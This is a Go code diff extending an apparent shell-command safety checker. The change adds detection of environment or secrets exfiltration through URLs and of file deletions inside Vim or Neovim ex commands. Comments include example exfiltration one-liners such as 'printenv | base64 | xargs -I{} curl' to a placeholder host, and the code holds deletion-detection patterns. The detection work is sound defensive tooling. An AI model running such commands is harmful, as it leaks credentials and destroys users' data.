@@ -3491,6 +3491,9 @@ func sendsSecret(iv *inv) {
 			continue // aws s3api list-objects --prefix x/.env: a key in the bucket, no local file
 		}
 		switch {
+		case !a.ok && strings.Contains(a.src, secretItems): // printenv | base64 | xargs -I{} curl "https://x/?d={}"
+			iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network: "+a.shown())
+			return
 		case a.ok && (strings.HasPrefix(a.s, "IdentityFile=") || strings.HasPrefix(a.s, "-i")) && !strings.Contains(a.s, "://"):
 		case !a.ok && (secretSubst.MatchString(a.src) || iv.substReadsSecret(a.src) || printsIndirect(a.src)):
 			iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network: "+a.shown())
@@ -3606,6 +3609,10 @@ func uploadsSecret(iv *inv) {
 	}
 	remote, url := false, false
 	for _, a := range args {
+		if !a.ok && strings.Contains(a.src, secretItems) && remoteURL.MatchString(a.src) { // env | xargs -I{} tool "https://x/?d={}"
+			iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network, in a URL: "+a.shown())
+			return
+		}
 		url = url || remoteURL.MatchString(a.s) || !a.ok && remoteURL.MatchString(strings.TrimLeft(a.src, `"'`)) // gs://b/run-$(date +%F).ipynb: the place is literal
 		remote = remote || a.ok && (remoteURL.MatchString(a.s) || (tool == "kubectl" || tool == "oc") && remotePath(tool, a.s))
 	}
@@ -5729,6 +5736,7 @@ func editor(iv *inv) {
 			iv.interpCode(iv.args[i+1])
 		}
 	}
+	iv.editorCode()
 	_, ops := opts(iv.rest(1))
 	var files []arg
 	for _, a := range ops {
@@ -5746,10 +5754,91 @@ func editor(iv *inv) {
 	}
 }
 
+// exModifiers are the ex command modifiers before a command (silent!
+// call …, sil lua …).
+var exModifiers = setOf("sil", "sil!", "silent", "silent!", "unsilent", "noautocmd", "noa", "keepalt", "keepjumps", "keepmarks",
+	"keeppatterns", "lockmarks", "noswapfile", "vertical", "verbose", "try", "endtry")
+
+// exInterps are the ex commands that hand the rest of their line to
+// another language's interpreter (:lua os.remove("x"), :py3 …).
+var exInterps = setOf("lua", "luado", "py", "python", "py3", "python3", "pyx", "pythonx", "pydo", "py3do",
+	"perl", "perldo", "ruby", "rubydo", "tcl", "tcldo", "mz", "mzscheme")
+
+// vimDelete is a delete call of Vimscript (delete(), Neovim's vim.fn.delete)
+// or Neovim's Lua (vim.fs.rm, vim.uv.fs_unlink, vim.loop.fs_rmdir).
+var vimDelete = lazyRE(`\b(?:vim\.fn\.|fn\.)?delete\s*\(|\bvim\.fs\.rm\s*\(|\bvim\.(?:uv|loop)\.fs_(?:unlink|rmdir)\s*\(`)
+
+// vimPathFuncs are the Vimscript functions that only turn a path
+// written in them into another form of it (expand("~/x")).
+var vimPathFuncs = lazyRE(`^\s*(?:vim\.fn\.)?(?:expand|fnamemodify|resolve|simplify|fnameescape)\s*\(\s*`)
+
+// editorCode judges the code an editor is told to run in its ex
+// commands: Vimscript's delete() of a literal path as rm of it (with
+// "rf", recursively), the lines of :lua, :python, :perl and :ruby as those
+// interpreters' one-liners. A delete of a path the code computes is held.
+func (iv *inv) editorCode() {
+	for _, cmd := range exCommands(iv) {
+		for _, line := range strings.Split(cmd, "\n") {
+			line = strings.TrimLeft(line, " \t:")
+			word, rest, _ := strings.Cut(line, " ")
+			for exModifiers[word] && rest != "" {
+				line = strings.TrimLeft(rest, " \t:")
+				word, rest, _ = strings.Cut(line, " ")
+			}
+			if word, _, _ = strings.Cut(word, "<<"); exInterps[word] {
+				iv.interpCode(arg{s: rest, ok: true, src: rest}) // :lua os.remove("x"): the rest of the line is Lua
+				if !strings.HasPrefix(word, "lua") {
+					continue
+				}
+			}
+			if vimDelete.FindStringIndex(line) != nil {
+				iv.vimDeletes(line)
+			}
+		}
+	}
+}
+
+// vimDeletes judges each delete call of vimDelete in line.
+func (iv *inv) vimDeletes(line string) {
+	for _, m := range vimDelete.FindAllStringIndex(line, 8) {
+		fn := strings.TrimRight(line[m[0]:m[1]], "( \t")
+		rest := line[m[1]:]
+		for {
+			w := vimPathFuncs.FindString(rest)
+			if w == "" {
+				break
+			}
+			rest = rest[len(w):]
+		}
+		lit, n, ok := stringLitN(strings.TrimLeft(rest, " \t"))
+		after := rest[min(len(rest), n+len(rest)-len(strings.TrimLeft(rest, " \t"))):]
+		after = after[:min(len(after), 80)]
+		tree := strings.Contains(fn, "rm") && !strings.Contains(fn, "fs_") || vimRecursive.MatchString(after)
+		if !ok || lit == "" || strings.ContainsAny(lit[:1], "%#<") || strings.Contains(lit, "$") && !strings.HasPrefix(lit, "$HOME/") {
+			iv.flag(Destructive, iv.name+" code "+fn+" deletes a path computed at run time")
+			continue
+		}
+		if strings.HasPrefix(lit, "$HOME/") {
+			lit = "~" + lit[len("$HOME"):]
+		}
+		iv.codeDelete(fn, lit, tree)
+	}
+}
+
+// vimRecursive is a recursive flag of a delete call: Vimscript's "rf",
+// Lua's { recursive = true }.
+var vimRecursive = lazyRE(`^[^;|\n]*?(?:["']rf["']|recursive\s*=\s*true)`)
+
 // exScript is the ex commands a vi-like editor is given, one a line:
 // -c CMD (alone or last in a cluster: -sc), +CMD, --cmd CMD, with |
 // between commands, and for ex mode (-s, -e, ex) what its stdin holds.
 func exScript(iv *inv) string {
+	script := strings.Join(exCommands(iv), "\n")
+	return strings.NewReplacer("|", "\n", ":", "").Replace(script)
+}
+
+// exCommands are the ex commands of exScript as they are written.
+func exCommands(iv *inv) []string {
 	var cmds []string
 	exMode := iv.name == "ex"
 	for i, a := range iv.args[1:] {
@@ -5769,8 +5858,7 @@ func exScript(iv *inv) string {
 	if exMode && iv.in.kind == srcText {
 		cmds = append(cmds, iv.in.text)
 	}
-	script := strings.Join(cmds, "\n")
-	return strings.NewReplacer("|", "\n", ":", "").Replace(script)
+	return cmds
 }
 
 // passesLines are the filters that pass every line of their input on,
